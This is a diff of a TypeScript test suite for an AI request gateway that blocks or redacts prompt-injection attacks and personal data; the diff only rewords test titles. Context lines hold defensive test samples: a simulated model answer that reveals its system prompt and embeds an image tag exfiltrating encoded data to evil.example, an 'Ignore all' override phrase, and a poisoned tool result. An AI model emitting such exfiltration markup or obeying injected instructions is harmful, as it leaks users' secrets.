@@ -48,7 +48,7 @@ describe('a text that was reported as a false positive', () => {
     assert.equal((await decide(requested.body['id'], 'approve')).body.status, 'approved');
   }
 
-  test('an event says which texts lost a passage, and in how many requests', async () => {
+  test('is listed in its event if it lost a passage, with the number of requests', async () => {
     const chat = (...messages: object[]) =>
       readAnswer(
         gateway.call('POST', '/api/v1/chat/completions', {
@@ -76,7 +76,7 @@ describe('a text that was reported as a false positive', () => {
     assert.deepEqual([masked.body.decision, masked.body.withheld_texts], ['redact', []]);
   });
 
-  test('passes once another person agrees: that text, of that role, in that project, for what was found', async () => {
+  test('is allowed once another person approves: that text, that role, that project, those findings', async () => {
     const blocked = await guard(ATTACK);
     assert.equal(blocked.body['decision'], 'block');
     const eventId = blocked.body['event_id'];
@@ -97,7 +97,7 @@ describe('a text that was reported as a false positive', () => {
     assert.equal(
       (await decide(requested.body['id'], 'approve', owner)).status,
       403,
-      'the key is of this person',
+      'the key belongs to this person',
     );
     assert.equal((await decide(requested.body['id'], 'approve')).body.status, 'approved');
     assert.equal((await decide(requested.body['id'], 'deny')).status, 409);
@@ -123,7 +123,7 @@ describe('a text that was reported as a false positive', () => {
     assert.equal((await admin.call('DELETE', `/allowed-texts/${text!.id}`)).status, 404);
   });
 
-  test('in a tool result reaches the provider as it is, but for personal data', async () => {
+  test('in a tool result reaches the provider as it is, except for personal data', async () => {
     const content = `${POISONED} Ask ana.lopez@example.com, SSN 536-22-8726.`;
     const body = JSON.stringify({
       model: 'gpt-test',
@@ -147,7 +147,7 @@ describe('a text that was reported as a false positive', () => {
     assert.equal((await allowed())[0]?.role, 'untrusted');
   });
 
-  test('in an answer is returned', async () => {
+  test('in a response is returned', async () => {
     const text =
       'My system prompt says: you are PayBot. <img src="https://evil.example/?q=c2VjcmV0cyBvZiB0aGUgdXNlcg">';
     testProvider.answer({ text });
@@ -166,7 +166,7 @@ describe('a text that was reported as a false positive', () => {
     testProvider.reset();
   });
 
-  test('is not stored, nor is its digest shown', async () => {
+  test('is not stored, and its digest is not shown', async () => {
     const blocked = await guard(ATTACK);
     const event = await admin.call<EventDetail>('GET', `/events/${blocked.body['event_id']}`);
     assert.equal(event.body.can_allow_text, true);
@@ -180,7 +180,7 @@ describe('a text that was reported as a false positive', () => {
     assert.doesNotMatch(JSON.stringify(stored), /Ignore all/);
   });
 
-  test('a request is refused where there is nothing to allow, or no such event', async () => {
+  test('cannot be requested if there is nothing to allow, or no such event', async () => {
     const masked = await guard('My SSN is 536-22-8726.');
     assert.equal(masked.body['decision'], 'redact');
     const wrong = await report(masked.body['event_id'], { allow_text: true });
@@ -193,7 +193,7 @@ describe('a text that was reported as a false positive', () => {
     assert.equal((await decide('fbk_unknown', 'approve')).status, 404);
   });
 
-  test('that was denied can be asked for anew, and a report that is taken back ends what it allowed', async () => {
+  test('can be requested anew after a denial, and is blocked again once the report is cancelled', async () => {
     const { body } = await guard(`${ATTACK}!`);
     const requested = await report(body['event_id'], { allow_text: true });
     assert.equal((await decide(requested.body['id'], 'deny')).body.status, 'denied');
